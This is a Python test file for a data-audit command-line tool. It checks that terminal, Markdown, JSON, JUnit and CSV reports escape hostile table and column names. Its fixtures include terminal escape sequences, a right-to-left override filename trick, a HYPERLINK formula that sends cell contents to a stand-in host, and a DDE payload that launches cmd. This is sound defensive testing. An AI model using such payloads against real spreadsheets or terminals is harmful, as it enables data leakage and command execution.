"""What the data holds cannot steer a terminal, break an XML report or run in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ElementTree

from helpers import add_sqlite_source
from typer.testing import CliRunner

from laci_audit.cli import app
from laci_audit.reports.escape import printable, spreadsheet_cell
from laci_audit.reports.sheets import Sheet
from laci_audit.reports.sheets.csv import render_sheets

ESCAPE_HEADER = "\x1b]0;owned\x07\x1b[2J\x1b[31mnama"
BIDI_NAME = "email\u202egnp.exe"
FORMULA_NAME = '=HYPERLINK("http://x.test/?"&A1,"klik")&email'


def _hostile_inventory(inventory):
    with open(inventory / "sources.yaml", "a", encoding="utf-8") as handle:
        handle.write("  - {name: ekspor, kind: csv, path: data/ekspor.csv, owner: tim-data}\n")
    (inventory / "data").mkdir()
    (inventory / "data" / "ekspor.csv").write_text(f'"{ESCAPE_HEADER}",{BIDI_NAME}\n1,2\n', encoding="utf-8")
    add_sqlite_source(inventory, "toko",
                      f'CREATE TABLE "akun\x85x" ("{FORMULA_NAME.replace(chr(34), chr(34) * 2)}" TEXT, "[/bold]" TEXT)')


def test_terminal_reports_escape_control_and_bidi_characters(inventory, tmp_path):
    _hostile_inventory(inventory)
    runner = CliRunner()
    db = ["--db", str(tmp_path / "x.db")]
    for args in (["audit", *db], ["audit", "-f", "markdown", *db], ["suggest"], ["check", *db], ["scan", *db],
                 ["where", "email"]):
        result = runner.invoke(app, [*args, "-i", str(inventory)])
        assert result.exit_code in (0, 1), result.output
        shown = result.output
        assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown and "\x85" not in shown
    audit = runner.invoke(app, ["audit", "-i", str(inventory), "--db", str(tmp_path / "x.db")]).output
    assert "\\u001b[31mnama" in audit.replace("\n", "").replace("│", "").replace(" ", "") or "\\u001b" in audit
    assert "[/bold]" in audit, "a name that looks like rich markup is shown as written, not read as markup"


def test_json_output_is_still_the_same_data(inventory, tmp_path):
    _hostile_inventory(inventory)
    result = CliRunner().invoke(app, ["audit", "-i", str(inventory), "-f", "json", "--db", str(tmp_path / "x.db")])
    assert "\x1b" not in result.output
    names = {f["field"] for f in json.loads(result.output)}
    assert ESCAPE_HEADER in names and BIDI_NAME in names


def test_junit_parses_whatever_the_names_hold(inventory, tmp_path):
    _hostile_inventory(inventory)
    result = CliRunner().invoke(app, ["check", "-i", str(inventory), "--format", "junit", "--fail-on", "info",
                                      "--db", str(tmp_path / "x.db")])
    assert result.exit_code == 1
    root = ElementTree.fromstring(result.stdout.encode("utf-8"))
    messages = " ".join(failure.get("message") for failure in root.iter("failure"))
    assert "\\u001b]0;owned" in messages


def test_csv_cells_that_would_be_formulas_are_text():
    sheet = Sheet("fields", "Fields", ["field", "count"], [[FORMULA_NAME, -3], ["+cmd|' /C calc'!A0", 1],
                                                            ["@SUM(1)", 2], ["-2+3", 3], ["nama", 4]])
    rows = list(csv.reader(io.StringIO(render_sheets("t", [sheet]))))
    assert [row[0] for row in rows[1:]] == ["'" + FORMULA_NAME, "'+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3", "nama"]
    assert [row[1] for row in rows[1:]] == ["-3", "1", "2", "3", "4"], "numbers stay numbers"


def test_report_csv_file_escapes_formulas(inventory, tmp_path):
    _hostile_inventory(inventory)
    output = tmp_path / "where.csv"
    result = CliRunner().invoke(app, ["where", "email", "-i", str(inventory), "-f", "csv", "-o", str(output)])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(output.read_text(encoding="utf-8"))) for cell in row]
    assert "'" + FORMULA_NAME in cells and "akun\\u0085x" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_printable_escapes_in_json_style():
    assert printable("a\x1bb\u2028c\nd", keep="\n") == "a\\u001bb\\u2028c\nd"
    assert printable("\U000e0041") == "\\udb40\\udc41"
    assert spreadsheet_cell("=1") == "'=1" and spreadsheet_cell("nama") == "nama"


def _unescaped_pipes(line: str) -> int:
    return line.replace("\\|", "").count("|")


def test_markdown_tables_keep_their_columns_whatever_the_names_hold(inventory, tmp_path):
    """A `|` or a newline in a table or column name stays inside its cell: every row of the audit's
    and the gate's Markdown tables has as many cells as the header."""
    add_sqlite_source(inventory, "pipa", 'CREATE TABLE "akun|pelanggan" ("no_hp|lama" TEXT, "email\nbaru" TEXT)')
    runner = CliRunner()
    db = ["--db", str(tmp_path / "x.db"), "-i", str(inventory)]
    audit = runner.invoke(app, ["audit", "-f", "markdown", *db])
    check = runner.invoke(app, ["check", "-f", "markdown", "--fail-on", "info", *db])
    for result in (audit, check):
        assert result.exit_code in (0, 1), result.output
        assert "akun\\|pelanggan" in result.output
        lines = result.output.splitlines()
        header = next(line for line in lines if line.startswith("| severity"))
        rows = [line for line in lines if line.startswith(("| error", "| warning", "| info"))]
        assert any("akun" in row for row in rows), result.output
        assert all(_unescaped_pipes(row) == _unescaped_pipes(header) for row in rows), rows
        assert not any(line.startswith("baru") for line in lines), "a newline in a name ended a row"
